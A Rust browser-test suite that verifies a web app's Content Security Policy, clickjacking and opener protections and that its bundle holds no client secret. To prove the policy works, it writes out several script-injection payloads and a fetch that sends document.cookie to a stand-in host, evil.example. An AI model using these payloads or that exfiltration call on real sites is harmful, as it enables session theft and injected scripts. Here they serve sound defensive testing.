//! The Content Security Policy: what the page ships with, and that browsers enforce it.

use serde_json::{Value, json};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpListener;

use crate::harness::browser::required;
use crate::harness::{Browser, INES, journey};

#[test]
fn every_page_ships_with_the_whole_policy() {
    journey(async |stage| {
        let service = &stage.emulator.service;
        for path in [
            "/",
            "/library",
            "/playlists/x",
            "/connect",
            "/flows",
            "/implicit",
            "/callback",
            "/callback?code=a&state=b",
            "/nowhere",
            "/index.html",
            "/404.html",
        ] {
            let answer = reqwest::get(format!("{}{path}", stage.emulator.site)).await.unwrap();
            let header =
                |name: &str| answer.headers().get(name).map(|value| value.to_str().unwrap().to_owned()).unwrap_or_default();
            assert!(header("content-type").starts_with("text/html"), "{path}");
            let policy = header("content-security-policy");
            let directive = |name: &str| {
                let found = policy.split(';').map(str::trim).find_map(|one| one.strip_prefix(name));
                found.unwrap_or_else(|| panic!("{path}: no {name} in {policy}")).trim().to_owned()
            };
            for none in ["default-src", "base-uri", "form-action", "object-src", "frame-ancestors"] {
                assert_eq!(directive(none), "'none'", "{path} {none}");
            }
            let scripts = directive("script-src");
            assert!(scripts.starts_with("'self' 'wasm-unsafe-eval' 'sha256-"), "{scripts}");
            assert!(!scripts.contains("unsafe-inline") && !scripts.contains("'unsafe-eval'"), "{scripts}");
            assert_eq!(directive("style-src"), "'self'");
            assert_eq!(directive("require-trusted-types-for"), "'script'");
            assert_eq!(directive("trusted-types"), "default");
            // As shipped, except that the emulator takes Spotify's place.
            assert_eq!(directive("connect-src"), format!("'self' {service} {service}"));
            assert_eq!(header("referrer-policy"), "no-referrer");
            assert_eq!(header("x-content-type-options"), "nosniff");
            assert_eq!(header("cross-origin-opener-policy"), "same-origin");
            for feature in ["camera", "microphone", "geolocation", "payment", "usb"] {
                assert!(header("permissions-policy").contains(&format!("{feature}=()")), "{feature}");
            }
            let page = answer.text().await.unwrap();
            assert!(page.contains("Content-Security-Policy"), "{path}: the page has no policy for hosts without headers");
        }
    });
}

#[test]
fn injected_script_does_not_run() {
    journey(async |stage| {
        let tab = &stage.tab;
        tab.open("/").await;
        tab.sees("with nobody").await;
        stage.console.expect_violations();
        // The policy does not apply to scripts of the driver, but to what they put into the page.
        for attempt in [
            "const s = document.createElement('script'); s.append('window.hit = 1'); document.body.append(s)",
            "const s = document.createElement('script'); s.textContent = 'window.hit = 1'; document.body.append(s)",
            "const s = document.createElement('script'); s.src = 'data:text/javascript,window.hit=1'; document.body.append(s)",
            "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hit = 1\">')",
            "const b = document.createElement('button'); b.setAttribute('onclick', 'window.hit = 1'); document.body.append(b); b.click()",
            "const a = document.createElement('a'); a.href = 'javascript:window.hit=1'; document.body.append(a); a.click()",
            "const f = document.createElement('iframe'); f.srcdoc = '<script>parent.hit=1</script>'; document.body.append(f)",
            "window.setTimeout('window.hit = 1', 0)",
        ] {
            tab.js(&format!("try {{ {attempt} }} catch (error) {{}}")).await;
        }
        // Whatever would run later has run when this timer does.
        tab.js_async("setTimeout(arguments[0], 300)", vec![]).await;
        assert_eq!(tab.js("return window.hit ?? 'no'").await, "no");
        // The console reports it, which all other journeys rely on.
        assert!(stage.console.violations().await.len() >= 4, "{:#?}", stage.console.all().await);
    });
}

#[test]
fn the_page_contacts_no_other_host() {
    journey(async |stage| {
        let tab = &stage.tab;
        stage.sign_in().await;
        tab.press("Playlists").await;
        tab.press_among(".index li a", "Slow trains, wide windows").await;
        tab.until_text_of("output", "312 items").await;
        let asked: Vec<String> =
            serde_json::from_value(tab.js("return performance.getEntriesByType('resource').map(entry => entry.name)").await)
                .unwrap();
        assert!(asked.len() > 10, "{asked:?}");
        for address in asked {
            let ours = address.starts_with(&stage.emulator.site) || address.starts_with(&stage.emulator.service);
            assert!(ours, "{address}");
        }
        // It could not even if it tried.
        stage.console.expect("https://evil.example");
        stage.console.expect_violations();
        let refused = tab
            .driver()
            .execute_async(
                "const done = arguments[0]; fetch('https://evil.example/?' + document.cookie).then(() => done('sent'), error => done('refused'))",
                Vec::<Value>::new(),
            )
            .await
            .unwrap();
        assert_eq!(*refused.json(), json!("refused"));
    });
}

/// Serves one page at an origin of its own.
async fn another_site(page: String) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let origin = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let _ = stream.read(&mut [0; 4096]).await;
            let head = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n";
            let _ = stream.write_all(format!("{head}Content-Length: {}\r\n\r\n{page}", page.len()).as_bytes()).await;
        }
    });
    origin
}

#[test]
fn another_site_cannot_frame_the_page() {
    journey(async |stage| {
        let tab = &stage.tab;
        stage.console.expect_violations();
        stage.console.expect("frame-ancestors");
        stage.console.expect("favicon.ico");
        if Browser::of_this_run() == Browser::Firefox {
            // Firefox also reports on the framing page.
            stage.console.expect("Quirks Mode");
            stage.console.expect("character encoding");
        }
        let origin = another_site(format!(
            "<!doctype html><meta charset=utf-8><title>x</title><iframe src=\"{}/library\"></iframe>",
            stage.emulator.site
        ))
        .await;
        tab.go(&origin).await;
        tab.until_js("the frame to be done", "return document.readyState === 'complete'").await;
        let log = stage.emulator.log().await;
        let site = log.site_requests();
        assert_eq!(site.len(), 1, "the framed page ran:\n{log}");
        assert_eq!((site[0].path.as_str(), site[0].sec_fetch_dest.as_deref()), ("/library", Some("iframe")));
    });
}

#[test]
fn another_site_that_opens_the_page_cannot_reach_it() {
    journey(async |stage| {
        let tab = &stage.tab;
        let origin = another_site(format!("<!doctype html><meta charset=utf-8><title>x</title><button onclick=\"window.other = window.open('{}/')\">Open</button>", stage.emulator.site)).await;
        stage.console.expect("favicon.ico");
        tab.go(&origin).await;
        tab.press("Open").await;
        // With COOP, the window looks closed to its opener.
        tab.until_js("a window out of reach", "return window.other?.closed === true").await;
        tab.switch_to_new_tab().await;
        tab.sees("with nobody").await;
        assert_eq!(tab.js("return window.opener").await, Value::Null);
    });
}

#[test]
fn bug_23_a_page_without_its_opener_can_sign_in() {
    journey(async |stage| {
        let tab = &stage.tab;
        let button = format!("<button onclick=\"window.open('{}/library')\">Open</button>", stage.emulator.site);
        let origin = another_site(format!("<!doctype html><meta charset=utf-8><title>x</title>{button}")).await;
        stage.console.expect("favicon.ico");
        tab.go(&origin).await;
        tab.press("Open").await;
        tab.switch_to_new_tab().await;
        tab.press("Sign in at Spotify").await;
        assert_eq!(tab.all_tabs().await.len(), 2, "the sign-in opened a window");
        tab.log_in_as("ines").await;
        tab.agree().await;
        tab.arrives_at("/library").await;
        tab.sees(INES).await;
        assert_eq!(tab.js("return window.opener").await, Value::Null);
    });
}

#[test]
fn the_bundle_contains_no_client_secret_and_no_nonce() {
    let files: Vec<_> = std::fs::read_dir(required("LOCKGROOVE_DIST")).unwrap().map(|entry| entry.unwrap().path()).collect();
    let named = |ending: &'static str| files.iter().filter(move |path| path.extension().is_some_and(|found| found == ending));
    let holds = |path: &std::path::PathBuf, word: &str| {
        std::fs::read(path).unwrap().windows(word.len()).any(|window| window == word.as_bytes())
    };
    assert!(named("wasm").count() > 1 && named("html").count() >= 1, "the module is in parts");
    for path in named("wasm").chain(named("js")) {
        for word in ["client_secret", "Basic "] {
            assert!(!holds(path, word), "{}: {word}", path.display());
        }
    }
    // A nonce in a static file is useless, and some browsers refuse WebAssembly under 'strict-dynamic'.
    for path in named("html") {
        for word in ["nonce", "strict-dynamic"] {
            assert!(!holds(path, word), "{}: {word}", path.display());
        }
    }
}

#[test]
fn localhost_redirects_to_the_address_spotify_accepts() {
    journey(async |stage| {
        let tab = &stage.tab;
        let named = stage.emulator.site.replace("127.0.0.1", "localhost");
        tab.go(&format!("{named}/playlists?view=grid#row9")).await;
        tab.arrives_at("/playlists?view=grid#row9").await;
        tab.sees("Sign in to see this").await;
        tab.press("Sign in at Spotify").await;
        tab.log_in_as("ines").await;
        tab.agree().await;
        tab.arrives_at("/playlists?view=grid#row9").await;
        tab.sees("Slow trains, wide windows").await;
    });
}
